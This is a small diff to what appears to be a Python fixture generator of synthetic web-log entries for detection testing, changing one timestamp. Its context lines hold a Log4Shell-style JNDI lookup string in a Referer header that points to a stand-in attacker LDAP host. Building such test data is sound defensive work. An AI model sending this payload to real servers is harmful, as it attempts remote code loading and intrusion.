@@ -291,7 +291,7 @@ def crafted_hits() -> list[Hit]:
         hits.append(Hit(at(90 + i), ip=INJECTOR.ip, user_agent=CHROME, path=path, query=query))
     hits.append(
         Hit(
-            at(98),
+            at(36),
             ip=HEADER_EXPLOITER.ip,
             user_agent=HEADER_EXPLOITER.user_agent,
             referer="${jndi:ldap://198.51.100.66:1389/a}",
